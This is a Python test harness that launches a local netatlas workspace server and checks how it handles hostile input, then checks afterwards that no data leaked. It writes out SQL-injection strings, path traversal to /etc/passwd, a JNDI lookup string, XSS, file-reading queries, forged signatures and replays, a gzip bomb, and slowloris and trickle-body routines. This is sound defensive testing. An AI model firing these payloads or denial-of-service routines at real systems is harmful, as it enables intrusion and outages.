"""The hostile-input probe: a real workspace server on loopback, attacked and misused as an
attacker or a faulty client would, input by input, in five classes.

    python bench/probe.py            # every input; prints one line per input refused badly, then the table
    python bench/probe.py --verbose  # one line per input

For each input the probe knows what a sound server answers (a set of statuses, and for an error
the one JSON error shape with a code and a message); an input is *handled* when the answer is
one of those, within its time, and the server still answers ``/healthz`` afterwards. A 500, a
hang, a dropped connection where an answer was due, or a server that stopped answering is a
failure. After the run the probe checks that nothing reached the internal tables or the
filesystem and that every batch it saw acknowledged is stored exactly once.

The exit code is 1 when any input was not handled (tests/test_probe.py runs it).
"""
from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import http.client
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from netatlas import auth, keys  # noqa: E402

QUERY_TIMEOUT = 5          # the probed server's --query-timeout (seconds)
ANSWER_TIMEOUT = 30        # seconds an answer may take before the input counts as a hang


# ---------------------------------------------------------------- talking to the server

@dataclass
class Reply:
    status: int                  # 0: no answer (connection closed or timed out)
    headers: dict
    body: object
    seconds: float

    @property
    def error_code(self) -> str | None:
        if isinstance(self.body, dict) and isinstance(self.body.get("error"), dict):
            return self.body["error"].get("code")
        return None


def http_request(port: int, method: str, path: str, body: bytes = b"", headers: dict | None = None,
                 timeout: float = ANSWER_TIMEOUT) -> Reply:
    t0 = time.monotonic()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request(method, path, body=body if body or method in ("POST", "PUT") else None, headers=headers or {})
        r = conn.getresponse()
        raw = r.read()
        hdrs = {k.lower(): v for k, v in r.getheaders()}
        try:
            parsed = json.loads(raw) if hdrs.get("content-type", "").startswith("application/json") else raw
        except ValueError:
            parsed = raw
        return Reply(r.status, hdrs, parsed, time.monotonic() - t0)
    except (OSError, http.client.HTTPException):
        return Reply(0, {}, None, time.monotonic() - t0)
    finally:
        conn.close()


def raw_exchange(port: int, data: bytes, timeout: float = 10) -> bytes:
    """Send bytes as they are and read what comes back until the server closes or the timeout."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except (socket.timeout, ConnectionResetError):
            pass
        return out


def status_of(raw: bytes) -> int:
    try:
        return int(raw.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


class Target:
    """The probed server (a ``netatlas workspace serve`` subprocess) and its keys."""

    def __init__(self, data: Path):
        self.data = data
        self.proc = None
        self.port = 0
        # keys made before the server starts: their secrets are known here whatever the server stores
        self.identity = keys.load_or_create(data)
        self.ingest_key = keys.create_key(data, "ingest")
        self.query_key = keys.create_key(data, "query")
        self.admin_key = _admin_key(data)
        self.acknowledged: dict[str, int] = {}     # marker -> records the server said it stored

    def start(self) -> "Target":
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.log = open(self.data.parent / "server.log", "ab")
        env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "netatlas", "workspace", "serve", "--data", str(self.data),
             "--port", str(self.port), "--query-timeout", str(QUERY_TIMEOUT), "--geoip-db", "off"],
            stdout=self.log, stderr=subprocess.STDOUT, env=env)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"the server exited with {self.proc.returncode}")
            if http_request(self.port, "GET", "/healthz", timeout=2).status == 200:
                return self
            time.sleep(0.1)
        raise RuntimeError("the server did not start")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def alive(self) -> bool:
        return self.proc.poll() is None and http_request(self.port, "GET", "/healthz", timeout=10).status == 200

    # ---- requests
    def ingest(self, table: str, body: bytes, *, key=None, gzipped=False, batch_id=None, headers=None,
               drop=(), path=None, sign_body: bytes | None = None, date=None) -> Reply:
        path = path or f"/api/ingest/{table}"
        key = key or self.ingest_key
        h = auth.signed_headers(self.identity.workspace_id, key.secret, sign_body if sign_body is not None else body,
                                path.split("?")[0], gzipped=gzipped, batch_id=batch_id, date=date)
        for name in drop:
            h.pop(name, None)
        h.update(headers or {})
        return http_request(self.port, "POST", path, body, h)

    def records(self, table: str, recs: list, **kw) -> Reply:
        return self.ingest(table, json.dumps(recs).encode(), **kw)

    def query(self, text, key=None, **extra) -> Reply:
        body = json.dumps({"query": text, **extra}).encode()
        return http_request(self.port, "POST", "/api/query", body,
                            {"Authorization": f"Bearer {(key or self.query_key).secret}",
                             "Content-Type": "application/json"})

    def get(self, path: str, key=None, headers=None) -> Reply:
        h = {"Authorization": f"Bearer {(key or self.query_key).secret}"} if key is not False else {}
        h.update(headers or {})
        return http_request(self.port, "GET", path, b"", h)

    def post_json(self, path: str, payload, key=None) -> Reply:
        return http_request(self.port, "POST", path, json.dumps(payload).encode(),
                            {"Authorization": f"Bearer {(key or self.query_key).secret}",
                             "Content-Type": "application/json"})

    def count(self, text: str) -> int | None:
        r = self.query(text)
        if r.status != 200:
            return None
        return r.body["tables"][0]["rows"][0][0]


def _admin_key(data: Path):
    """An admin key when the workspace knows the role, else the query key (older servers)."""
    try:
        return keys.create_key(data, "admin")
    except ValueError:
        return keys.create_key(data, "query")


def now(delta=timedelta()) -> str:
    return (datetime.now(timezone.utc) + delta).isoformat()


def conn_record(marker: str, **extra) -> dict:
    return {"TimeGenerated": now(-timedelta(minutes=1)), "Computer": marker, "ProcessName": "probe",
            "RemoteIp": "10.1.2.3", "DestinationPort": 443, "BytesSent": 1, **extra}


# ---------------------------------------------------------------- the inputs

@dataclass
class Case:
    cls: str
    name: str
    run: Callable[[Target], Reply]
    statuses: tuple[int, ...]
    check: Callable[[Target, Reply], bool] | None = None   # a further condition on a handled answer
    slow: bool = False

    def handled(self, t: Target, r: Reply) -> tuple[bool, str]:
        if r.status == 0:
            return False, f"no answer after {r.seconds:.1f} s"
        if r.status not in self.statuses:
            return False, f"answered {r.status} {r.error_code or ''}, expected {self.statuses}"
        if r.status >= 400 and r.error_code is None and r.status not in (431, 408):
            return False, f"answered {r.status} without the JSON error shape"
        if self.check is not None and not self.check(t, r):
            return False, "the answer's content is wrong"
        return True, ""


CASES: list[Case] = []


def case(cls, name, statuses, check=None, slow=False):
    def register(fn):
        CASES.append(Case(cls, name, fn, tuple(statuses), check, slow))
        return fn
    return register


INJ, BAD, AUTH, QUERY, TRANSPORT = ("injection", "malformed records", "authentication and authorization",
                                    "queries", "transport and denial of service")

# ---- injection: nothing reaches SQL, the filesystem or the internal tables
for i, table in enumerate(["VMConnection;DROP%20TABLE%20VMProcess", "..%2F..%2Fetc%2Fpasswd", "_netatlas_batches",
                           "_netatlas_usage", "Usage", "VMConnection%00", "VMConnection'--", "%22VMConnection%22",
                           "information_schema.tables", "duckdb_settings()", "VMConnection%20UNION%20SELECT%201"]):
    case(INJ, f"ingest into table {table!r}", (400, 403, 404))(
        lambda t, table=table: t.ingest(table, json.dumps([conn_record("inj")]).encode(), path=f"/api/ingest/{table}"))

for key in ['Computer"; DROP TABLE VMConnection; --', "../../etc/passwd", "TimeGenerated\u0000", "_BilledSize2",
            "Computer' OR '1'='1", "$.Computer", "Computer[0]"]:
    case(INJ, f"record field named {key!r}", (400,))(
        lambda t, key=key: t.records("VMConnection", [{**conn_record("inj"), key: 1}]))

COPY_TARGET = Path(tempfile.gettempdir()) / f"netatlas-probe-{uuid.uuid4().hex}"
for value in ["'); DROP TABLE VMConnection; --", f"\\'; COPY VMConnection TO '{COPY_TARGET}'; --",
              "${jndi:ldap://x/a}", "<script>alert(1)</script>", "\u202e\u0000nul"]:
    marker = f"inj-{uuid.uuid4().hex[:8]}"

    def _stored_verbatim(t, r, marker=marker, value=value):
        got = t.query(f'VMConnection | where Computer == "{marker}" | project ProcessName')
        return got.status == 200 and got.body["tables"][0]["rows"] == [[value]]

    case(INJ, f"string value {value[:24]!r} stored verbatim", (200,), _stored_verbatim)(
        lambda t, marker=marker, value=value: t.records("VMConnection", [conn_record(marker, ProcessName=value)]))

for text in ["_netatlas_batches | take 1", "_netatlas_usage | take 1", "_netatlas_meta | take 1",
             "print read_text('/etc/passwd')", "print x = read_csv('/etc/passwd')", ".drop table VMConnection",
             "database('x').VMConnection | take 1", "print getenv('HOME')", "print current_setting('threads')",
             "externaldata(x:string) [@'file:///etc/passwd'] | take 1", "VMConnection | take 1; DROP TABLE VMProcess",
             "print x = 1 | extend y = sql('select 1')", "evaluate python(typeof(*), 'import os')",
             "print duckdb_extensions()", "print x = 'a'' UNION SELECT 1 --'"]:
    case(INJ, f"query {text[:40]!r}", (200, 400),
         lambda t, r: r.status == 400 or all("root:" not in json.dumps(r.body) for _ in [0]))(
        lambda t, text=text: t.query(text))

# ---- malformed records: a clear 4xx naming record and field; nothing of the batch stored
_LONG_FIELDS = {"BytesSent": [3.5, True, 1e400, 2**70, [1], {"a": 1}],
                "TimeGenerated": ["yesterday", "10000-01-01T00:00:00Z", "1900-01-01T00:00:00Z", 12345, True,
                                  (datetime.now(timezone.utc) + timedelta(days=3)).isoformat(), "2024-02-30T00:00:00Z"],
                "LinksEstablished": [1.5, False, "x"],
                "ResponseTimeMax": ["-", {"a": 1}]}
for fld, values in _LONG_FIELDS.items():
    for v in values:
        case(BAD, f"{fld} = {json.dumps(v)[:40]}", (400,),      # 1e400 is refused as a number JSON cannot hold
             lambda t, r, v=v: isinstance(r.body["error"].get("record"), int) or v == 1e400)(
            lambda t, fld=fld, v=v: t.ingest("VMConnection", json.dumps(
                [conn_record("bad"), {**conn_record("bad"), fld: v}]).encode().replace(b"Infinity", b"1e400")))

for name, body in [("not JSON", b"{not json"), ("a JSON object", b'{"a": 1}'), ("a JSON string", b'"x"'),
                   ("an array of numbers", b"[1, 2, 3]"), ("null", b"null"), ("an array with null", b"[null]"),
                   ("truncated JSON", b'[{"TimeGenerated": "2026-'), ("NaN", b'[{"TimeGenerated": NaN}]'),
                   ("a lone surrogate", b'[{"TimeGenerated": "\\ud800"}]'), ("invalid UTF-8", b'[{"Computer": "\xff\xfe"}]'),
                   ("deep nesting", b"[" * 100_000 + b"]" * 100_000), ("BOM", b"\xef\xbb\xbf[]"),
                   ("empty body", b""), ("missing TimeGenerated", b'[{"Computer": "x"}]')]:
    case(BAD, f"body: {name}", (400,))(lambda t, body=body: t.ingest("VMConnection", body))

case(BAD, "an empty array stores nothing", (200,), lambda t, r: r.body.get("records") == 0)(
    lambda t: t.ingest("VMConnection", b"[]"))
case(BAD, "a record of 600 fields", (400, 413))(
    lambda t: t.records("VMConnection", [{**conn_record("wide"), **{f"F{i}": i for i in range(600)}}]))


def _truncated(t, r):
    marker = r.marker
    got = t.query(f'VMConnection | where Computer == "{marker}" | project n = strlen(ProcessName)')
    return got.status == 200 and got.body["tables"][0]["rows"] and got.body["tables"][0]["rows"][0][0] <= 32 * 1024


def _long_string(t):
    marker = f"long-{uuid.uuid4().hex[:8]}"
    r = t.records("VMConnection", [conn_record(marker, ProcessName="x" * 40_000)])
    r.marker = marker
    return r


case(BAD, "a 40 KB string is truncated to 32 KB", (200,), _truncated)(_long_string)
case(BAD, "a body gzipped twice", (400, 413, 415))(
    lambda t: t.ingest("VMConnection", gzip.compress(gzip.compress(json.dumps([conn_record("gz")]).encode())), gzipped=True))
case(BAD, "bad gzip", (400,))(lambda t: t.ingest("VMConnection", b"\x1f\x8b\x08\x00garbage", gzipped=True))
case(BAD, "gzip without Content-Encoding", (200, 400, 415))(
    lambda t: t.ingest("VMConnection", gzip.compress(json.dumps([conn_record("gz2")]).encode())))
case(BAD, "a malformed batch id", (400,))(
    lambda t: t.records("VMConnection", [conn_record("b")], batch_id="../../x y"))
case(BAD, "Content-Encoding br", (415,))(
    lambda t: t.ingest("VMConnection", b"[ ]", headers={"Content-Encoding": "br"}))
case(BAD, "Content-Type text/plain", (403, 415))(   # the type is signed: 403 when changed after signing
    lambda t: t.ingest("VMConnection", b"[]", headers={"Content-Type": "text/plain"}))


def _same_batch_concurrently(t: Target) -> Reply:
    body = json.dumps([conn_record(f"dup-{uuid.uuid4().hex[:8]}") for _ in range(50)]).encode()
    batch = uuid.uuid4().hex
    out = []
    threads = [threading.Thread(target=lambda: out.append(t.ingest("VMConnection", body, batch_id=batch)))
               for _ in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    bad = [r for r in out if r.status != 200]
    first = out[0] if not bad else bad[0]
    first.all = out
    return first


case(BAD, "8 concurrent retries of one batch id", (200,),
     lambda t, r: sum(not x.body["duplicate"] for x in r.all) == 1)(_same_batch_concurrently)

# ---- authentication and authorization
_REC = json.dumps([conn_record("auth")]).encode()
for name, headers, drop in [
        ("no Authorization", {}, ("Authorization",)),
        ("no x-ms-date", {}, ("x-ms-date",)),
        ("Bearer instead of SharedKey", {"Authorization": "Bearer abc"}, ()),
        ("SharedKey without a colon", {"Authorization": "SharedKey abc"}, ()),
        ("signature not base64", {"Authorization": "SharedKey ws:!!!"}, ()),
        ("a date in another format", {"x-ms-date": "2026-01-01 00:00:00"}, ()),
        ("an absurd date", {"x-ms-date": "Mon, 01 Jan 9999 00:00:00 GMT"}, ()),
        ("a header 100 KB long", {"Authorization": "SharedKey " + "a" * 100_000}, ())]:
    case(AUTH, name, (400, 401, 403, 431))(
        lambda t, headers=headers, drop=drop: t.ingest("VMConnection", _REC, headers=headers, drop=drop))


def _other_workspace(t):
    h = auth.signed_headers(str(uuid.uuid4()), t.ingest_key.secret, _REC, "/api/ingest/VMConnection")
    return http_request(t.port, "POST", "/api/ingest/VMConnection", _REC, h)


case(AUTH, "another workspace's id", (401, 403))(_other_workspace)
case(AUTH, "a stale date", (401,))(lambda t: t.ingest("VMConnection", _REC, date=datetime.now(timezone.utc) - timedelta(hours=1)))
case(AUTH, "a date in the future", (401,))(lambda t: t.ingest("VMConnection", _REC, date=datetime.now(timezone.utc) + timedelta(hours=1)))
case(AUTH, "a random key", (403,))(
    lambda t: t.ingest("VMConnection", _REC, key=keys.Key("k_x", "ingest", base64.b64encode(os.urandom(32)).decode(), "")))
case(AUTH, "a query key signing a batch", (403,))(lambda t: t.ingest("VMConnection", _REC, key=t.query_key))
case(AUTH, "an ingest key querying", (401, 403))(lambda t: t.query("print 1", key=t.ingest_key))
case(AUTH, "no key querying", (401,))(
    lambda t: http_request(t.port, "POST", "/api/query", b'{"query":"print 1"}', {"Content-Type": "application/json"}))
case(AUTH, "an ingest key writing ThreatIntelligenceIndicator", (403,))(
    lambda t: t.records("ThreatIntelligenceIndicator", [{"TimeGenerated": now(), "NetworkIP": "10.1.2.3",
                                                         "Active": True, "ThreatType": "botnet"}]))
case(AUTH, "an ingest key querying the UI's views", (401, 403))(lambda t: t.get("/api/machines", key=t.ingest_key))
case(AUTH, "a query key applying retention", (403,))(lambda t: t.post_json("/api/retention/apply", {}))
case(AUTH, "a query key changing retention", (403,))(
    lambda t: http_request(t.port, "PUT", "/api/retention/VMConnection", b'{"days": 1}',
                           {"Authorization": f"Bearer {t.query_key.secret}", "Content-Type": "application/json"}))
case(AUTH, "a query key importing threat intel", (403,))(
    lambda t: t.post_json("/api/threatintel/import", {"indicators": [{"NetworkIP": "10.1.2.3"}]}))


def _changed_body_same_length(t):
    """A body of the same length as a signed one, sent under the signed one's headers."""
    good = json.dumps([conn_record("sig-a")]).encode()
    evil = good.replace(b"sig-a", b"sig-b")
    return t.ingest("VMConnection", evil, sign_body=good)


case(AUTH, "another body under an observed signature", (401, 403))(_changed_body_same_length)


def _digest_stripped(t):
    body = json.dumps([conn_record("sig-c")]).encode()
    return t.ingest("VMConnection", body, drop=("x-ms-content-sha256",),
                    headers={"User-Agent": "netatlas-agent/0.1"})


case(AUTH, "a netatlas agent's request without its body digest", (401, 403))(_digest_stripped)


def _replay(t):
    marker = f"replay-{uuid.uuid4().hex[:8]}"
    body = json.dumps([conn_record(marker)]).encode()
    h = auth.signed_headers(t.identity.workspace_id, t.ingest_key.secret, body, "/api/ingest/VMConnection")
    first = http_request(t.port, "POST", "/api/ingest/VMConnection", body, h)
    again = http_request(t.port, "POST", "/api/ingest/VMConnection", body, h)
    again.marker, again.first = marker, first
    return again


case(AUTH, "a verbatim replay without a batch id", (200,),
     lambda t, r: r.first.status == 200 and t.count(f'VMConnection | where Computer == "{r.marker}" | count') == 1)(_replay)


def _spoofed_sender(t):
    body = json.dumps([{"TimeGenerated": now(), "Computer": "spoof", "Machine": "m-spoof",
                        "Ipv4Addresses": ["10.9.9.9"]}]).encode()
    r = t.ingest("VMComputer", body, headers={"X-Forwarded-For": "203.0.113.66"})
    return r


def _sender_not_spoofed(t, r):
    got = t.get("/api/machines/resolve?ip=203.0.113.66")
    return got.status in (200, 404) and "m-spoof" not in json.dumps(got.body)


case(AUTH, "X-Forwarded-For from an untrusted client", (200,), _sender_not_spoofed)(_spoofed_sender)
case(AUTH, "/ui redirect with a forged Host", (301, 302, 307, 308),
     lambda t, r: "evil.example" not in r.headers.get("location", ""))(
    lambda t: http_request(t.port, "GET", "/ui", headers={"Host": "evil.example"}))

# ---- queries: a clear 4xx at the span (or a partial result), never a 500 or a hang
_QUERIES_400 = ["VMConection | take 1", "VMConnection | where NoSuchColumn == 1", "VMConnection | summarize count() by",
                "print x = extract('(', 1, 'a')", "print '\ud800'", "print", "", "VMConnection | take -1 | take 'x'",
                "print " + "(" * 200 + "1" + ")" * 200, "print x=1" + " | extend x = x + 1" * 400,
                "print " + " + ".join(["1"] * 2000), "print " + "f(" * 300 + "1" + ")" * 300,
                "VMConnection" + " | join (VMConnection) on Computer" * 70,
                "print x = " + "[" * 500 + "]" * 500,
                "VMConnection | evaluate no_such_plugin()", "print x = 1 / 'a'",
                "print x = todatetime('x') | where x > now(", "let f = (x: long) { f(x) }; print f(1)"]
for text in _QUERIES_400:
    case(QUERY, f"query {text[:40]!r}{'...' if len(text) > 40 else ''}", (400,))(lambda t, text=text: t.query(text))

_lets = "let a0 = print x = 1;" + "".join(f"let a{i} = union a{i - 1}, a{i - 1};" for i in range(1, 40)) + "a39 | count"
case(QUERY, "doubling lets (2^39 rows)", (200, 400, 504))(lambda t: t.query(_lets))
case(QUERY, "range over 10^12 rows: a partial result", (200,),
     lambda t, r: r.body["tables"][0]["rows"] and r.seconds < QUERY_TIMEOUT + 5)(
    lambda t: t.query("range x from 1 to 1000000000000 step 1"))
case(QUERY, "a 200 MB result: cut, not a MemoryError", (200,),
     lambda t, r: r.seconds < ANSWER_TIMEOUT)(
    lambda t: t.query("range x from 1 to 400000 step 1 | extend s = strrep('x', 500)"))
case(QUERY, "a cross join past the time limit", (504,), slow=True)(
    lambda t: t.query("range a from 1 to 100000 step 1 | extend k = 1 | join kind=inner "
                      "(range b from 1 to 100000 step 1 | extend k = 1) on k | summarize count()"))
case(QUERY, "the query field is a number", (400,))(lambda t: t.post_json("/api/query", {"query": 1}))
case(QUERY, "no query field", (400,))(lambda t: t.post_json("/api/query", {"q": "print 1"}))
case(QUERY, "a dynamic literal nested 500 deep", (200, 400))(
    lambda t: t.query("print x = dynamic(" + "[" * 500 + "]" * 500 + ")"))
case(QUERY, "a 1 MB query text", (200, 400, 413))(lambda t: t.query("print x = '" + "a" * 1_000_000 + "'"))
case(QUERY, "a bad timespan", (400,))(lambda t: t.query("print 1", timespan="yesterday"))
case(QUERY, "bag_unpack of a key with a quote", (200,))(
    lambda t: t.query('print d = dynamic({"a\\"b": 1}) | evaluate bag_unpack(d)'))
case(QUERY, "a non-ASCII identifier", (200,))(lambda t: t.query("print é = 1"))
case(QUERY, "views with absurd parameters", (200, 400, 404))(
    lambda t: t.get("/api/map?machine=" + "%27" * 1000 + "&start=yesterday"))
case(QUERY, "usage and machines after poison dates were refused", (200,))(lambda t: t.get("/api/usage"))
case(QUERY, "the machines view", (200,))(lambda t: t.get("/api/machines"))
case(QUERY, "order by TimeGenerated desc", (200,))(lambda t: t.query("VMConnection | order by TimeGenerated desc | take 3"))
case(QUERY, "arg_max(TimeGenerated, *)", (200,))(lambda t: t.query("VMConnection | summarize arg_max(TimeGenerated, *) by Computer"))


# ---- transport and denial of service
def _bomb(wrap_header: bool):
    def run(t):
        raw = gzip.compress(b"[" + b" " * (1 << 30) + b"]", compresslevel=9)
        return t.ingest("VMConnection", raw, gzipped=wrap_header)
    return run


case(TRANSPORT, "a gzip bomb (1 GiB inflated)", (413,), slow=True)(_bomb(True))
case(TRANSPORT, "a gzip bomb without Content-Encoding", (400, 413, 415), slow=True)(_bomb(False))
case(TRANSPORT, "a body over 30 MiB", (413,))(lambda t: t.ingest("VMConnection", b"[" + b" " * (31 * 1024 * 1024) + b"]"))
case(TRANSPORT, "Content-Length larger than the limit", (401, 413))(
    lambda t: Reply(status_of(raw_exchange(t.port, b"POST /api/ingest/VMConnection HTTP/1.1\r\nHost: x\r\n"
                                                  b"Content-Type: application/json\r\nContent-Length: 99999999999\r\n"
                                                  b"Authorization: SharedKey a:b\r\nx-ms-date: x\r\n\r\n[")),
                    {}, {"error": {"code": "raw"}}, 0))
for name, data in [("an HTTP/0.9 request line", b"GET /\r\n\r\n"), ("garbage", os.urandom(2048)),
                   ("a bad method", b"F\x00O / HTTP/1.1\r\nHost: x\r\n\r\n"),
                   ("a header without a colon", b"GET /healthz HTTP/1.1\r\nHost x\r\n\r\n"),
                   ("10,000 headers", b"GET /healthz HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(10_000)) + b"\r\n"),
                   ("a chunked body over the limit", b"POST /api/query HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
                    b"Content-Type: application/json\r\n\r\n" + (b"100000\r\n" + b" " * 0x100000 + b"\r\n") * 40 + b"0\r\n\r\n")]:
    case(TRANSPORT, name, (0, 200, 400, 401, 404, 405, 413, 431),
         lambda t, r: True)(lambda t, data=data: Reply(status_of(raw_exchange(t.port, data)) or 400, {},
                                                      {"error": {"code": "raw"}}, 0))


def _slowloris(t, n=300):
    """``n`` connections that send half a request and stop; /healthz must still answer, and the
    server must close them at its header timeout."""
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection(("127.0.0.1", t.port), timeout=5)
            s.sendall(b"POST /api/query HTTP/1.1\r\nHost: x\r\nContent-Le")
            socks.append(s)
        except OSError:
            break
    r = http_request(t.port, "GET", "/healthz", timeout=10)
    deadline = time.monotonic() + 40
    open_ = socks
    while open_ and time.monotonic() < deadline:
        still = []
        for s in open_:
            s.settimeout(0.01)
            try:
                if s.recv(1) == b"":
                    s.close()
                    continue
                s.close()          # an answer (408): closed by us now
                continue
            except (socket.timeout, BlockingIOError):
                still.append(s)
            except OSError:
                s.close()
        open_ = still
        time.sleep(0.5)
    r.left_open = len(open_)
    for s in open_:
        s.close()
    return r


case(TRANSPORT, "300 half-open requests (slowloris)", (200,), lambda t, r: r.left_open == 0, slow=True)(_slowloris)


def _trickle(t):
    """A body sent one byte a second: the server stops waiting at its body timeout."""
    s = socket.create_connection(("127.0.0.1", t.port), timeout=90)
    s.sendall(b"POST /api/query HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              b"Authorization: Bearer " + t.query_key.secret.encode() + b"\r\nContent-Length: 1000\r\n\r\n")
    t0 = time.monotonic()
    got = b""
    try:
        while time.monotonic() - t0 < 80:
            s.sendall(b" ")
            s.settimeout(1)
            try:
                chunk = s.recv(65536)
                if not chunk:
                    break
                got += chunk
                break
            except socket.timeout:
                pass
    except OSError:
        pass
    finally:
        s.close()
    return Reply(status_of(got) or (408 if time.monotonic() - t0 < 80 else 0), {}, {"error": {"code": "raw"}},
                 time.monotonic() - t0)


case(TRANSPORT, "a body trickled a byte a second", (0, 400, 408), slow=True)(_trickle)


# ---------------------------------------------------------------- the run

def integrity(t: Target) -> list[str]:
    """What must hold after the run: the tables exist, nothing was written to internal tables by
    a client, the refused batches left nothing."""
    problems = []
    for table in ("VMConnection", "VMProcess", "VMComputer"):
        if t.count(f"{table} | count") is None:
            problems.append(f"{table} cannot be queried after the run")
    bad = t.count('VMConnection | where Computer in ("bad", "wide", "auth", "gz", "b", "inj") | count')
    if bad:
        problems.append(f"{bad} records of refused batches were stored")
    if t.count('VMConnection | where Computer == "sig-b" | count'):
        problems.append("a body sent under another body's signature was stored")
    if t.count("ThreatIntelligenceIndicator | count"):
        problems.append("an ingest key wrote ThreatIntelligenceIndicator")
    if COPY_TARGET.exists():
        problems.append(f"an injected COPY wrote {COPY_TARGET}")
    return problems


def run(verbose: bool = False, quick: bool = False, out=sys.stdout) -> int:
    with tempfile.TemporaryDirectory(prefix="netatlas-probe-") as tmp:
        t = Target(Path(tmp) / "data").start()
        results: dict[str, list[int]] = {}
        failures = []
        try:
            for c in CASES:
                if quick and c.slow:
                    continue
                try:
                    r = c.run(t)
                    ok, why = c.handled(t, r)
                except Exception as e:          # the probe's own mistake counts against the server
                    ok, why = False, f"{type(e).__name__}: {e}"
                if ok and not t.alive():
                    ok, why = False, "the server stopped answering /healthz afterwards"
                row = results.setdefault(c.cls, [0, 0])
                row[0] += 1
                row[1] += ok
                if verbose or not ok:
                    print(f"{'ok  ' if ok else 'FAIL'} {c.cls}: {c.name}" + (f": {why}" if why else ""), file=out)
                if not ok:
                    failures.append(c)
                    if t.proc.poll() is not None:
                        t.start()
            problems = integrity(t)
        finally:
            t.stop()
        print(f"\n{'class':<34} {'inputs':>6} {'handled':>8}", file=out)
        for cls, (n, ok) in results.items():
            print(f"{cls:<34} {n:>6} {ok:>8}", file=out)
        total = sum(n for n, _ in results.values()), sum(ok for _, ok in results.values())
        print(f"{'all':<34} {total[0]:>6} {total[1]:>8}", file=out)
        for p in problems:
            print(f"INTEGRITY: {p}", file=out)
        return 1 if failures or problems else 0


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--verbose", action="store_true", help="a line per input")
    p.add_argument("--quick", action="store_true", help="skip the slow inputs (bombs, slowloris, trickle, timeouts)")
    args = p.parse_args(argv)
    return run(args.verbose, args.quick)


if __name__ == "__main__":
    sys.exit(main())
